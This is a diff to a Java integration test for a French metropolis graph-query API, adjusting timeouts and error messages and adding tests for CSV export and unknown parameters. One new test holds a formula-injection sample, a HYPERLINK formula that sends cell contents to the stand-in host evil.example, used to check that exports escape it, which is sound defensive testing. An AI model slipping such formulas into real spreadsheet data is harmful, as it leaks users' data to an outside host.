@@ -28,7 +28,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * the seeds ({@code fixtures/seeds.cypher}).
  */
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
-		properties = { "app.ingest.on-startup=false", "app.cypher.timeout=2s" })
+		properties = { "app.ingest.on-startup=false", "app.cypher.timeout=15s" })
 class ResearchCypherIT {
 
 	@DynamicPropertySource
@@ -126,7 +126,7 @@ class ResearchCypherIT {
 		ResponseEntity<Map> response = cypher("MATCH (m:Metropolis RETURN m", Map.of());
 		assertThat(response.getStatusCode().value()).isEqualTo(400);
 		assertThat(response.getBody().get("type")).isEqualTo("https://metrograph.fr/problemes/requete-invalide");
-		assertThat(response.getBody().get("detail").toString()).contains("line 1");
+		assertThat(response.getBody().get("detail").toString()).contains("ligne 1, colonne 21");
 		assertThat(response.getBody().get("codeNeo4j").toString()).contains("SyntaxError");
 		ResponseEntity<Map> empty = cypher("   ", Map.of());
 		assertThat(empty.getBody().get("detail")).isEqualTo("La requête est vide.");
@@ -135,11 +135,12 @@ class ResearchCypherIT {
 	@Test
 	void stopsASlowQueryAtTheTimeout() {
 		ResponseEntity<Map> response = cypher(
-				"UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b WITH a, b WHERE a * b = -1 RETURN count(*)",
+				"UNWIND range(1, toInteger('100000')) AS a UNWIND range(1, toInteger('100000')) AS b "
+						+ "WITH a, b WHERE a * b = -1 RETURN count(*)",
 				Map.of());
 		assertThat(response.getStatusCode().value()).isEqualTo(400);
 		assertThat(response.getBody().get("type")).isEqualTo("https://metrograph.fr/problemes/requete-trop-longue");
-		assertThat(response.getBody().get("detail").toString()).contains("délai de 2 secondes");
+		assertThat(response.getBody().get("detail").toString()).contains("délai de 15 secondes");
 	}
 
 	@Test
@@ -167,6 +168,35 @@ class ResearchCypherIT {
 		assertThat(response.getBody())
 			.isEqualTo("m,nom,groupe\r\n" + "aix-marseille-provence,Métropole d'Aix-Marseille-Provence,agents\r\n"
 					+ "brest,Brest Métropole,agents\r\n");
+	}
+
+	@Test
+	void neutralisesFormulaLeadingCellsInCsvAndWritesTheSpreadsheetDialectOnRequest() {
+		ResponseEntity<String> response = this.http.post()
+			.uri("/api/cypher?dialecte=tableur")
+			.contentType(MediaType.APPLICATION_JSON)
+			.accept(MediaType.parseMediaType("text/csv"))
+			.body(Map.of("query",
+					"RETURN '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")' AS nom, "
+							+ "'=1+2' AS role, '+1', '-1+1', '@x', -2.5 AS n"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(response.getStatusCode().value()).isEqualTo(200);
+		assertThat(response.getBody()).isEqualTo("\uFEFFnom;role;'+1';'-1+1';'@x';n\r\n"
+				+ "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\";'=1+2;+1;'-1+1;'@x;-2,5\r\n");
+		ResponseEntity<String> saved = this.http.get()
+			.uri("/api/queries/membres_par_annee?dialecte=tableur")
+			.accept(MediaType.parseMediaType("text/csv"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(saved.getBody()).startsWith("\uFEFFannee;groupe;nombre;metropoles\r\n2024;agents;15;");
+		ResponseEntity<String> unknown = this.http.get()
+			.uri("/api/queries/membres_par_annee?dialecte=excel")
+			.accept(MediaType.parseMediaType("text/csv"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(unknown.getStatusCode().value()).isEqualTo(400);
+		assertThat(unknown.getBody()).contains("Dialecte CSV inconnu");
 	}
 
 	@Test
@@ -207,8 +237,12 @@ class ResearchCypherIT {
 		List<Map<String, Object>> queries = this.http.get().uri("/api/queries").retrieve().body(List.class);
 		for (Map<String, Object> query : queries) {
 			String name = (String) query.get("name");
+			// Only the queries that take it get a person: an unknown parameter is an
+			// error.
+			boolean takesPerson = ((List<Map<String, Object>>) query.get("parameters")).stream()
+				.anyMatch((p) -> "personne".equals(p.get("name")));
 			ResponseEntity<Map> response = this.http.get()
-				.uri("/api/queries/{name}?personne=christelle-scuotto-calvez", name)
+				.uri("/api/queries/{name}" + (takesPerson ? "?personne=christelle-scuotto-calvez" : ""), name)
 				.retrieve()
 				.toEntity(Map.class);
 			assertThat(response.getStatusCode().value()).as(name).isEqualTo(200);
@@ -297,6 +331,18 @@ class ResearchCypherIT {
 		assertThat(illTyped.getStatusCode().value()).isEqualTo(400);
 		assertThat(illTyped.getBody().get("parametre")).isEqualTo("depuis");
 		assertThat(illTyped.getBody().get("detail").toString()).contains("nombre entier");
+	}
+
+	@Test
+	void anUnknownParameterNameIsAnErrorThatNamesTheKnownOnes() {
+		ResponseEntity<Map> misspelt = this.http.get()
+			.uri("/api/queries/adhesions_d_une_metropole?metropol=brest")
+			.retrieve()
+			.toEntity(Map.class);
+		assertThat(misspelt.getStatusCode().value()).isEqualTo(400);
+		assertThat(misspelt.getBody().get("parametre")).isEqualTo("metropol");
+		assertThat(misspelt.getBody().get("detail").toString()).contains("Paramètre inconnu « metropol »",
+				"« metropole »");
 	}
 
 	@Test
